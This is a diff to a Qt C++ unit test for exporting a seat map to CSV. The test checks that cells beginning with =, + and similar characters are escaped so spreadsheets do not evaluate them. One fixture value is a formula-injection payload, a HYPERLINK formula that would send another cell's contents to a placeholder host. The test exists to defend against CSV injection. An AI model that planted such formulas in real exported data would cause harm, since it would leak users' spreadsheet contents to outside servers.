@@ -33,8 +33,7 @@ void TestTables::exports_data()
     QTest::addColumn<QString>("clipboard"); // empty: as the CSV, only with TABs
     // A spreadsheet would evaluate a name starting with = + - @ TAB or CR.
     QTest::newRow("four by four") << "grid 4 4"
-                                  << SeatMap{{1, "山田 太郎"},
-                                             {2, " "}, // an empty seat
+                                  << SeatMap{{2, " "}, // an empty seat
                                              {3, "=HYPERLINK(\"http://x/?\"&D7)"},
                                              {4, "+1"},
                                              {5, "佐藤,花子"},
@@ -45,8 +44,7 @@ void TestTables::exports_data()
                                              {13, "山田=1"},
                                              {16, " 前後 "}}
                                   << "座席番号,列,列内の位置,氏名\r\n"
-                                     "1,1,1,山田 太郎\r\n"
-                                     "2,1,2,\r\n"
+                                     "1,1,1,\r\n2,1,2,\r\n"
                                      "3,1,3,\"'=HYPERLINK(\"\"http://x/?\"\"&D7)\"\r\n"
                                      "4,1,4,'+1\r\n"
                                      "5,2,1,\"佐藤,花子\"\r\n"
